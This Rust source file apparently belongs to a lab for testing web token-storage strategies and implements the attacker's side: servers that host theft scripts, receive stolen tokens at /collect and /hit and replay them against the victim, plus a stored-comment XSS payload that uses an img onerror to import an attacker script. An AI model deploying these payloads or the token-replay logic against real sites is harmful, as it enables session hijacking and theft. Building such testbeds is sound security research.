//! The attacker: hosts with scripts and forms, and a server that tries the stolen tokens.
//!
//! One host is another site, the other is a subdomain of the victim's and counts as the same site; both respond alike.
//!
//! # Layout
//! - this file: the scripts, and what they send back
//! - [`forgery`] pages that make the visitor's browser send requests
//! - [`thief`] the server's own requests to the victim, with the stolen tokens

pub mod forgery;
pub mod thief;

use std::sync::Arc;

use api_types::paths;
use axum::{
    Router,
    body::Bytes,
    extract::{Path, Query, State},
    http::{
        Method, StatusCode,
        header::{ACCESS_CONTROL_ALLOW_ORIGIN, CONTENT_TYPE},
    },
    response::{IntoResponse, Response},
    routing::{any, get, post},
};
use lab_types::{Evidence, Found, Place, Strategy, Threat};
use serde::Deserialize;

use super::{
    Lab,
    recorder::{self, Of},
    runs::Run,
    vulnerable::Smuggled,
};
pub use thief::{Copies, Thief};

/// The user agent of the attacker's server: not hidden, so that the evidence distinguishes it.
pub const USER_AGENT: &str = "mallory/1.0";

/// The maximum number of loot pieces that are tried.
const TRIED: usize = 12;

/// The scripts.
const SCRIPTS: [(&str, &str); 5] = [
    ("kit", include_str!("assets/attacks/kit.js")),
    (
        Threat::SingleExecutionTheft.slug(),
        include_str!("assets/attacks/single-execution-theft.js"),
    ),
    (
        Threat::PersistentTheft.slug(),
        include_str!("assets/attacks/persistent-theft.js"),
    ),
    (
        Threat::NewTokens.slug(),
        include_str!("assets/attacks/acquiring-new-tokens.js"),
    ),
    (
        Threat::Proxying.slug(),
        include_str!("assets/attacks/proxying.js"),
    ),
];

/// A script that a page of the victim loads without checking its address.
const WIDGET: &str = include_str!("assets/attacks/widget.js");

/// The router of the attacker's hosts.
pub fn router(lab: &Arc<Lab>) -> Router {
    let hosts = Router::new()
        .route("/attacks/{file}", get(script))
        .route("/hosted/widget.js", get(async || javascript(WIDGET)))
        .route("/collect", post(collect))
        .route("/hit", any(hit))
        .route("/csrf", get(forgery::navigation))
        .route("/unseen", get(forgery::unseen))
        .with_state(Arc::clone(lab));
    lab.behind_its_door(hosts, &[&lab.sites.attacker, &lab.sites.sibling])
}

/// The endpoints of the victim's server, for each strategy. An attacker knows them, because anyone can inspect the
/// page.
#[derive(Debug, Clone)]
pub struct Doors {
    pub login: String,
    pub logout: String,
    pub refresh: String,
    pub transfer: String,
    pub me: String,
}

impl Doors {
    pub fn of(strategy: Strategy) -> Self {
        if strategy == Strategy::Keyturn {
            return Self {
                login: paths::LOGIN.into(),
                logout: paths::LOGOUT.into(),
                refresh: paths::REFRESH.into(),
                transfer: super::victim::TRANSFER.into(),
                me: paths::ME.into(),
            };
        }
        let door = |name: &str| format!("/weak/{}/{name}", strategy.slug());
        Self {
            login: door("login"),
            logout: door("logout"),
            refresh: door("refresh"),
            transfer: door("transfer"),
            me: door("me"),
        }
    }
}

/// The code of a cell's attack, for readers of the evidence.
pub fn code(place: Place) -> Option<String> {
    match place {
        Place::Storage { threat, .. } => {
            let script = SCRIPTS.iter().find(|(name, _)| *name == threat.slug());
            match script {
                Some((_, script)) => {
                    let (_, kit) = SCRIPTS[0];
                    Some(format!("{script}\n// kit.js\n{kit}"))
                }
                None => forgery::code(place),
            }
        }
        Place::Forgery { .. } => forgery::code(place),
        Place::Script { injection, .. } => {
            let attacker = "https://attacker.example";
            let smuggled = Smuggled::of(injection, "…", attacker, &format!("{attacker}/hit?…"));
            Some(smuggled.markup + &smuggled.text)
        }
        // There is no attack: the pages of one visitor interfere with each other.
        Place::Race { .. } => None,
    }
}

async fn script(Path(file): Path<String>) -> Response {
    let found = SCRIPTS
        .iter()
        .find(|(name, _)| file.strip_suffix(".js") == Some(*name));
    match found {
        Some((_, script)) => javascript(script),
        None => StatusCode::NOT_FOUND.into_response(),
    }
}

/// The victim's page loads it from another origin, and the attacker allows that.
fn javascript(script: &'static str) -> Response {
    let headers = [
        (CONTENT_TYPE, "text/javascript; charset=utf-8"),
        (ACCESS_CONTROL_ALLOW_ORIGIN, "*"),
    ];
    (headers, script).into_response()
}

#[derive(Deserialize)]
struct Brought {
    found: Vec<Found>,
}

/// Receives what a script found, and tries it before responding, so that the evidence is complete when the script ends.
async fn collect(State(lab): State<Arc<Lab>>, Query(of): Query<Of>, body: Bytes) -> StatusCode {
    let (Some(run), Some(cell @ Place::Storage { strategy, .. })) = (of.run(&lab), of.cell()) else {
        return StatusCode::NOT_FOUND;
    };
    let Ok(Brought { found }) = serde_json::from_slice(&body) else {
        return StatusCode::BAD_REQUEST;
    };
    run.note(
        cell,
        Evidence::Loot {
            at_ms: lab.runs.now_ms(),
            found: found.clone(),
        },
    );
    // A separate task: closing the page must not stop what its script has begun.
    let tries = tokio::spawn(async move {
        let thief = Thief::new(&lab, &run, strategy, cell);
        let promising = found.iter().filter(|one| thief::is_promising(strategy, one));
        for one in promising.take(TRIED) {
            thief.try_out(&one.value).await;
        }
        let (requests, unanswered) = thief.tally();
        let at_ms = lab.runs.now_ms();
        run.note(
            cell,
            Evidence::Tried {
                at_ms,
                requests,
                unanswered,
            },
        );
    });
    match tries.await {
        Ok(()) => StatusCode::NO_CONTENT,
        Err(_) => StatusCode::INTERNAL_SERVER_ERROR,
    }
}

#[derive(Deserialize)]
struct Hit {
    what: Option<String>,
}

/// Accepts any request, whether the data is in the address or in the body.
async fn hit(
    State(lab): State<Arc<Lab>>,
    Query(of): Query<Of>,
    Query(Hit { what }): Query<Hit>,
    method: Method,
    body: Bytes,
) -> Response {
    let (Some(run), Some(cell @ Place::Script { .. })) = (of.run(&lab), of.cell()) else {
        return StatusCode::NOT_FOUND.into_response();
    };
    let found = Found {
        place: format!("a {method} of the browser"),
        name: if what.is_some() { "address" } else { "body" }.into(),
        value: what.unwrap_or_else(|| String::from_utf8_lossy(&body).into_owned()),
    };
    run.note(
        cell,
        Evidence::Loot {
            at_ms: lab.runs.now_ms(),
            found: vec![found],
        },
    );
    // A visitor who was navigated here is sent back to the runner.
    recorder::way_back(&lab, &of, "The attacker’s server has what it wanted.").into_response()
}

/// A stored comment that loads a script of the attacker into the victim's page.
pub fn comment(lab: &Lab, run: &Run, strategy: Strategy, threat: Threat) -> String {
    let cell = Place::Storage { strategy, threat };
    let address = format!(
        "{}/attacks/{}.js?run={}&cell={cell}&refresh={}",
        lab.sites.attacker,
        threat.slug(),
        run.id,
        Doors::of(strategy).refresh
    );
    format!("<p>What a fine page.</p><img alt=\"\" src=\"data:,\" onerror=\"import('{address}')\">")
}
